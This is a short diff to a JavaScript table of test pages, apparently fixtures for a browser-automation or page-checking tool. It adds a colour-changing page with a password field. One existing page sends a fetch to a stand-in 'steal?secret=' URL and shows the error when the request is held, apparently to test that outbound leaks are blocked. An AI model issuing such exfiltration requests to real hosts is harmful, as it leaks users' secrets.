@@ -18,6 +18,7 @@ const pages = {
   "/outside": () => page("<p>Outside</p><img src='http://example.org/pixel.png'>", "fetch('http://example.org/steal?secret=1').catch((error) => document.querySelector('p').textContent = 'held: ' + error.message)"),
   "/upload": () => page("<label>File <input type=file></label><p id=out></p>", "document.querySelector('input').onchange = (event) => { out.textContent = event.target.files[0].name }"),
   "/shift": () => page("<div id=top></div><h1>Shifts</h1>", "setTimeout(() => { top.style.height = '300px' }, 100); const until = performance.now() + 120; while (performance.now() < until);".replace("top.style", "document.getElementById('top').style")),
+  "/colours": () => page("<style>body { background: rgb(200, 0, 0) } body.right { background: rgb(0, 160, 0) }</style><button>Repair</button><label>Key <input type=password></label>", "document.querySelector('button').onclick = () => { document.body.className = 'right' }"),
   "/animate": () => page("<div id=box style='width:50px;height:50px;background:red'></div>", "let x = 0; setInterval(() => { box.style.marginLeft = (x += 3) % 600 + 'px' }, 16)"),
 };
 
